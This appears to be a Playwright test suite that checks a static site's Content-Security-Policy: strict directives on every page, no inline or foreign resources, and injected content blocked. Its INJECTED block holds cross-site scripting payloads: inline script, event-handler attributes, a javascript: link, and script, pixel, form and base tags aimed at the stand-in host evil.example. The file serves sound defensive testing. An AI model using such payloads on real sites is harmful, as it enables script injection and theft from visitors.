"""Each page tells the browser what it may load and run: the site's own files, and nothing else."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Page, Route

from tests.site.sample import PAGES

STRICT = {
    "default-src": {"'none'"},
    "script-src": {"'self'"},
    "style-src": {"'self'"},
    "img-src": {"'self'", "data:"},
    "font-src": {"'self'"},
    "connect-src": {"'self'"},
    "worker-src": {"'self'"},
    "manifest-src": {"'self'"},
    "base-uri": {"'none'"},
    "form-action": {"'none'"},
}
"""All that any page allows. A page may allow less."""

DATA = {"application/ld+json"}


class PageSource(HTMLParser):
    """What in a page has to do with its policy."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.policies: list[str] = []
        self.before: list[str] = []
        self.inline: list[str] = []
        self.foreign: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values: dict[str, Any] = {name: value or "" for name, value in attrs}
        if tag == "meta" and values.get("http-equiv", "").lower() == "content-security-policy":
            self.policies.append(values["content"])
        if not self.policies and tag in {"script", "style", "link", "img", "body", "base"}:
            self.before.append(tag)
        loads = values.get("src") or (values.get("href") if tag == "link" and values.get("rel") != "canonical" else "")
        if loads and urlsplit(loads)[:2] != ("", "") and not loads.startswith("data:"):
            self.foreign.append(loads)
        if tag == "style" or (tag == "script" and "src" not in values and values.get("type") not in DATA):
            self.inline.append(tag)
        self.inline += [f"{tag} {name}" for name in values if name.startswith("on") or name == "style"]
        if values.get("href", "").strip().lower().startswith("javascript:"):
            self.inline.append(values["href"])


def directives(policy: str) -> dict[str, set[str]]:
    found = [part.split() for part in policy.split(";") if part.strip()]
    assert len({name for name, *_ in found}) == len(found), "of a directive that is there twice, browsers drop one"
    return {name: set(sources) for name, *sources in found}


def test_every_page_has_the_strict_policy_before_anything_it_loads(built_site: Path) -> None:
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 100
    for path in pages:
        page = PageSource(path.read_text(encoding="utf-8"))
        name = path.relative_to(built_site).as_posix()
        assert len(page.policies) == 1, name
        assert page.before == [], name
        policy = directives(page.policies[0])
        assert policy["default-src"] == {"'none'"}, name
        # What somebody writes on a worksheet cannot be sent by any script, not even to the site's own host.
        is_worksheet = re.fullmatch(r"worksheets/[^/]+/index\.html", name)
        assert policy["connect-src"] == ({"'none'"} if is_worksheet else {"'self'"}), name
        # What is not in the list falls back to nothing, but these three have no such fallback.
        assert {"base-uri", "form-action"} <= set(policy), name
        for directive, sources in policy.items():
            assert sources <= STRICT[directive] | {"'none'"}, (name, directive)


def test_no_page_has_anything_that_the_policy_would_stop(built_site: Path) -> None:
    for path in sorted(built_site.rglob("*.html")):
        page = PageSource(path.read_text(encoding="utf-8"))
        assert (page.inline, page.foreign) == ([], []), path.relative_to(built_site).as_posix()


def test_no_style_sheet_or_script_of_the_site_names_another_host(built_site: Path) -> None:
    named = re.compile(
        rb"""(?:url\(\s*["']?|@import\s+["']|fetch\(["'`]|importScripts\(["'`]|src\s*=\s*["'`])(https?:)?//"""
    )
    files = [path for path in built_site.rglob("*") if path.suffix in {".css", ".js"} and "plan" not in path.parts]
    assert len(files) > 15
    assert [path.name for path in files if named.search(path.read_bytes())] == []


INJECTED = """
<script>window.ran = "script"</script>
<img src="data:image/gif;base64,none" onerror="window.ran = 'handler'">
<svg onload="window.ran = 'svg'"></svg>
<a id="injected" href="javascript:window.ran = 'link'">press</a>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<script src="https://evil.example/x.js"></script>
<img src="https://evil.example/pixel.gif"><link rel="stylesheet" href="https://evil.example/x.css">
<form action="https://evil.example/" method="post"><button id="sent">send</button></form>
<style>h1 { visibility: hidden }</style>
<base href="https://evil.example/">
"""


def test_script_that_somebody_slipped_into_any_page_does_not_run_and_reaches_nobody(page: Page, site_url: str) -> None:
    asked: list[str] = []
    styled: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="window.ran = 'foreign'", content_type="text/javascript")

    def with_injection(route: Route) -> None:
        if route.request.resource_type != "document":
            route.continue_()
            return
        response = route.fetch()
        body = response.text()
        assert body.count("</main>") == 1
        route.fulfill(response=response, body=body.replace("</main>", f"{INJECTED}</main>"))

    page.route(site_url + "**", with_injection)
    page.route("https://evil.example/**", answer)
    for address in PAGES.values():
        page.goto(site_url + address)
        if not page.locator("h1").first.is_visible():
            styled.append(address)
        page.locator("#injected").dispatch_event("click")
        page.locator("#sent").dispatch_event("click")
        assert page.evaluate("window.ran") is None, address
        assert page.url == site_url + address
    assert (asked, styled) == ([], [])


def test_the_same_would_run_and_be_asked_for_without_the_policy(page: Page, site_url: str) -> None:
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="", content_type="text/javascript")

    def unprotected(route: Route) -> None:
        response = route.fetch()
        body = response.text().replace("Content-Security-Policy", "nothing").replace("</main>", f"{INJECTED}</main>")
        route.fulfill(response=response, body=body)

    page.route("https://evil.example/**", answer)
    page.route(site_url, unprotected)
    page.goto(site_url)
    assert page.evaluate("window.ran") is not None
    assert {urlsplit(url).path for url in asked} >= {"/x.js", "/pixel.gif", "/x.css"}


def test_a_text_does_not_become_script_in_a_script_of_the_site(page: Page, site_url: str) -> None:
    def with_eval(route: Route) -> None:
        body = """
            try { eval("window.ran = 'eval'") } catch (error) { window.refused = error.name }
            try { new Function("window.ran = 'function'")() } catch { window.refused += " again" }
            try { setTimeout("window.ran = 'timer'") } catch {}"""
        route.fulfill(body=body, content_type="text/javascript")

    page.route("**/print.js*", with_eval)
    page.goto(site_url, wait_until="networkidle")
    page.wait_for_timeout(100)
    assert page.evaluate("[window.ran, window.refused]") == [None, "EvalError again"]
